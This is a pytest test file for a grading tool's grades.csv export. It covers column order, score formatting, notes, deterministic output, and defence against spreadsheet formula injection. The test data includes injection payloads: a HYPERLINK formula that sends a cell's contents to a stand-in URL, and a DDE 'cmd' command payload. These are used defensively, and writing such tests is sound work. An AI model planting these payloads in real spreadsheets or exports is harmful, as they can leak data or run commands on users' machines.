"""grades.csv: one row per student, one column per hidden test."""

import csv
import io

import pytest

from tito.grading.reports.common import ReportError
from tito.grading.reports.csv_report import grades_csv, write_grades_csv
from tito.grading.result import SubmissionResult
from tito.grading.result import TestVerdict as Verdict


def rows(text):
    return list(csv.DictReader(io.StringIO(text)))


def test_one_row_per_student_sorted_with_a_column_per_test(graded_class, tests):
    """Are students sorted by id, with the fixed columns, a column per test and the trailing ones?"""
    text = grades_csv(graded_class, list(tests))
    header = text.splitlines()[0].split(",")
    assert header == ["student", "name", "email", "status", "score", "raw_score", "max_score", *tests, "submitted_at",
                      "late", "late_penalty", "notes"]
    assert [row["student"] for row in rows(text)] == ["ada", "bob", "carl", "dan", "eve@example.com", "mallory"]


def test_points_and_scores_are_written_with_g(graded_class, tests):
    """Does each test column hold the points earned, formatted like `4`, `0`, `2.5`?"""
    by_student = {row["student"]: row for row in rows(grades_csv(graded_class, list(tests)))}
    assert (by_student["ada"]["score"], by_student["ada"]["max_score"]) == ("12.5", "12.5")
    assert [by_student["bob"][name] for name in tests] == ["4", "0", "0"]
    assert by_student["bob"]["score"] == "4"
    assert by_student["ada"]["submitted_at"] == "2024-03-01T12:00:00+00:00"


def test_tests_that_did_not_run_are_blank_and_the_problem_is_noted(graded_class, tests):
    """Does a result without verdicts leave its test cells empty (score 0, the problem in notes)?"""
    by_student = {row["student"]: row for row in rows(grades_csv(graded_class, list(tests)))}
    carl, dan = by_student["carl"], by_student["dan"]
    assert [carl[name] for name in tests] == ["", "", ""] and carl["score"] == "0"
    assert carl["status"] == "error" and "SyntaxError" in carl["notes"]
    assert dan["status"] == "missing" and dan["notes"] == "" and [dan[name] for name in tests] == ["0", "0", "0"]
    assert by_student["eve@example.com"]["notes"] == (
        "cell test-sgd was changed (checksum differs); export of cell 12 was ignored"
    )


def test_long_or_multiline_notes_become_one_short_line():
    """Is a note with newlines collapsed and cut, so each row stays one line?"""
    result = SubmissionResult("x", "graded", 1.0, notes=["line one\nline two " + "z" * 400])
    text = grades_csv([result], [])
    assert len(text.splitlines()) == 2
    assert rows(text)[0]["notes"].startswith("line one line two z") and rows(text)[0]["notes"].endswith("…")


def test_a_test_outside_the_list_is_an_error():
    """Would a result's points silently vanish? No: a test not in the columns is refused, naming the student."""
    result = SubmissionResult("x", "graded", 1.0, tests=[Verdict("test_other", 1.0, 1.0, True)])
    with pytest.raises(ReportError, match="x's result has test 'test_other'"):
        grades_csv([result], ["test_sgd"])


def test_same_input_same_bytes(graded_class, tests, tmp_path):
    """Is the file byte-identical when written twice, whatever the input order?"""
    first = write_grades_csv(graded_class, list(tests), tmp_path / "a.csv").read_bytes()
    second = write_grades_csv(list(reversed(graded_class)), list(tests), tmp_path / "b.csv").read_bytes()
    assert first == second and b"\r" not in first


FORMULAS = ['=HYPERLINK("http://x"&E2,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote(text):
    """Does every cell starting with = + - @, a tab or a carriage return get a leading ', as OWASP recommends?"""
    from tito.grading.reports.common import csv_cell, csv_value

    assert csv_cell(text) == "'" + text
    assert csv_value(csv_cell(text)) == text


@pytest.mark.parametrize("text", ["-1.5", "+3", "-2e5", "12.5", "ada", "'quoted", "", "a=b"])
def test_numbers_and_plain_text_are_left_as_they_are(text):
    """Are plain numbers such as -1.5, and text that no spreadsheet runs, written unchanged?"""
    from tito.grading.reports.common import csv_cell, csv_value

    assert csv_cell(text) == text and csv_value(text) == text


def test_a_leading_quote_before_a_formula_survives_the_round_trip():
    """Is text that itself starts with ' before a formula character given back exactly, not one quote short?"""
    from tito.grading.reports.common import csv_cell, csv_value

    assert csv_cell("'=x") == "''=x" and csv_value("''=x") == "'=x"


def test_names_emails_timestamps_and_notes_from_outside_cannot_run_in_grades_csv():
    """Do roster names, emails, LMS timestamps and notes that look like formulas arrive in grades.csv as text,
    with their embedded quotes intact?"""
    result = SubmissionResult("ada", "graded", 1.0, name=FORMULAS[0], email=FORMULAS[1], submitted_at="=cmd",
                              notes=["@import"])
    row = rows(grades_csv([result], []))[0]
    assert (row["name"], row["email"], row["submitted_at"], row["notes"]) == (
        "'" + FORMULAS[0], "'" + FORMULAS[1], "'=cmd", "'@import")
    for cell in grades_csv([result], []).splitlines()[1].split(","):
        assert not cell.lstrip('"').startswith(("=", "+", "@"))
